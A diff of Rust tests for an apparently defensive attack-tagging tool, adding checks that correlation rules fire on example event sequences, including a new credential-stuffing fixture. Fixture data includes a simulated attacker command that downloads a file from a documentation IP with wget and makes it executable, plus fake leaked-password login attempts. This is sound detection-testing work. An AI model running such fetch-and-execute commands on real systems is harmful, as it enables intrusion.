@@ -106,17 +106,6 @@ fn ten_failed_attempts_in_five_minutes_make_one_tag_and_a_replay_none() {
     // and the window start, so nothing is added.
     tag(&rules, &db, &events);
     assert_eq!(rows(&db), got);
-    // `ttp test --strict` does not ask it for the examples it cannot carry.
-    let out = Command::new(env!("CARGO_BIN_EXE_ttp"))
-        .args(["test", "--strict", "--rules"])
-        .arg(&rules)
-        .output()
-        .unwrap();
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stdout)
-    );
 }
 
 #[test]
@@ -195,8 +184,7 @@ fn a_broken_correlation_is_reported_at_its_place() {
         text.contains("bad.yaml:9:11") && text.contains("`window` must be a duration"),
         "{text}"
     );
-    // Examples are single events: a correlation rule cannot carry them yet,
-    // and says so instead of failing `ttp test`.
+    // A correlation rule's examples are sequences, not single events.
     write_rules(
         &rules,
         &[(
@@ -207,13 +195,68 @@ fn a_broken_correlation_is_reported_at_its_place() {
     let (code, text) = check(&rules);
     assert_eq!(code, Some(1));
     assert!(
-        text.contains("bad.yaml:13:3") && text.contains("E018"),
+        text.contains("bad.yaml:14:7")
+            && text.contains("E018")
+            && text.contains("is `sequence: [event, …]`"),
         "{text}"
     );
 }
 
-/// Each shipped correlation rule, with a sequence that must fire it.
-fn shipped_sequences() -> Vec<(&'static str, Vec<String>)> {
+/// `ttp test` runs a correlation rule's sequences: a `match` sequence
+/// fires once on its last event, a `no_match` one never; each way of
+/// failing is reported at the sequence's line.
+#[test]
+fn ttp_test_runs_correlation_sequences() {
+    let work = tempfile::TempDir::new().unwrap();
+    let rules = work.path().join("rules");
+    let examples = |nine: usize, last: &str| {
+        format!(
+            "{GUESSING}examples:\n  match:\n    - sequence:\n        \
+             - {{times: {nine}, payload: {{success: false}}}}\n        - {{success: false}}\n  \
+             no_match:\n    - sequence:\n        - {{times: 9, payload: {{success: false}}}}\n        \
+             - {{success: {last}}}\n"
+        )
+    };
+    let test = |text: &str| {
+        write_rules(&rules, &[("c001.yaml", text)]);
+        let out = Command::new(env!("CARGO_BIN_EXE_ttp"))
+            .args(["test", "--strict", "--rules"])
+            .arg(&rules)
+            .output()
+            .unwrap();
+        (
+            out.status.code(),
+            String::from_utf8_lossy(&out.stdout).to_string()
+                + &String::from_utf8_lossy(&out.stderr),
+        )
+    };
+    let (code, text) = test(&examples(9, "true"));
+    assert_eq!(code, Some(0), "{text}");
+    assert!(text.contains("1 rules, 2 examples"), "{text}");
+    // Twelve failures fire on the tenth, not the last; ten in the
+    // `no_match` sequence fire it.
+    let (code, text) = test(&examples(11, "false"));
+    assert_eq!(code, Some(1), "{text}");
+    assert!(
+        text.contains("c001.yaml:14: TTP-C001: the `match` sequence must fire the rule once, on its last event; it fired on event(s) #10"),
+        "{text}"
+    );
+    assert!(
+        text.contains("c001.yaml:18: TTP-C001: the `no_match` example fired the rule"),
+        "{text}"
+    );
+    // Too few: missed.
+    let (code, text) = test(&examples(7, "true"));
+    assert_eq!(code, Some(1), "{text}");
+    assert!(
+        text.contains("c001.yaml:14: TTP-C001: the `match` example did not fire the rule"),
+        "{text}"
+    );
+}
+
+/// Each shipped correlation rule, with a sequence that must fire it (and
+/// the other correlation rules that rightly fire on it too).
+fn shipped_sequences() -> Vec<(&'static str, Vec<String>, &'static [&'static str])> {
     let at = |s: usize| format!("2026-11-20T08:{:02}:{:02}Z", s / 60, s % 60);
     let login = |i: usize, attacker: &str, user: &str, service: &str, decky: &str, s: usize| {
         serde_json::json!({
@@ -237,6 +280,7 @@ fn shipped_sequences() -> Vec<(&'static str, Vec<String>)> {
             (0..10)
                 .map(|i| login(i, "att-c1", "root", "ssh", "decky-1", i * 15))
                 .collect(),
+            &[],
         ),
         (
             "TTP-C002",
@@ -245,12 +289,32 @@ fn shipped_sequences() -> Vec<(&'static str, Vec<String>)> {
                 .enumerate()
                 .map(|(i, u)| login(i, "att-c2", u, "ssh", "decky-1", i * 60))
                 .collect(),
+            &[],
         ),
         (
             "TTP-C003",
             (0..5)
                 .map(|i| login(i, "att-c3", "root", "ssh", &format!("decky-{i}"), i * 30))
                 .collect(),
+            &[],
+        ),
+        // Stuffing is also many accounts: spraying fires too. Forty seconds
+        // apart, the ten failures are not five minutes of guessing.
+        (
+            "TTP-C005",
+            (0..10)
+                .map(|i| {
+                    serde_json::json!({
+                        "source_kind": "auth_attempt", "source_id": format!("c5-{i}"),
+                        "attacker_uuid": "att-c5",
+                        "payload": {"username": format!("user{i}@example.com"),
+                                    "password": format!("leaked-{i}"), "service": "ssh",
+                                    "result": "fail", "ts": at(i * 40)},
+                    })
+                    .to_string()
+                })
+                .collect(),
+            &["TTP-C002"],
         ),
         (
             "TTP-C004",
@@ -259,6 +323,7 @@ fn shipped_sequences() -> Vec<(&'static str, Vec<String>)> {
                 command(1, "cd /tmp && wget http://203.0.113.5/a"),
                 command(2, "chmod +x /tmp/a"),
             ],
+            &[],
         ),
     ]
 }
@@ -293,21 +358,24 @@ fn each_shipped_correlation_rule_fires_on_its_sequence_alone() {
         .collect();
     shipped.sort();
     let sequences = shipped_sequences();
-    let covered: Vec<String> = sequences.iter().map(|(id, _)| id.to_string()).collect();
+    let mut covered: Vec<String> = sequences.iter().map(|(id, ..)| id.to_string()).collect();
+    covered.sort();
     assert_eq!(
         shipped, covered,
         "every shipped correlation rule needs a sequence here"
     );
     let work = tempfile::TempDir::new().unwrap();
-    for (id, events) in sequences {
+    for (id, events, also) in sequences {
         let db = work.path().join(format!("{id}.db"));
         tag(&shipped_rules(), &db, &events);
-        assert_eq!(correlation_tags(&db), [id], "{id}");
-        // One event fewer: nothing.
+        let mut want: Vec<&str> = also.iter().copied().chain([id]).collect();
+        want.sort_unstable();
+        assert_eq!(correlation_tags(&db), want, "{id}");
+        // One event fewer: not this rule.
         let db = work.path().join(format!("{id}-short.db"));
         tag(&shipped_rules(), &db, &events[..events.len() - 1]);
         assert!(
-            correlation_tags(&db).is_empty(),
+            !correlation_tags(&db).iter().any(|t| t == id),
             "{id} fired one event short"
         );
     }
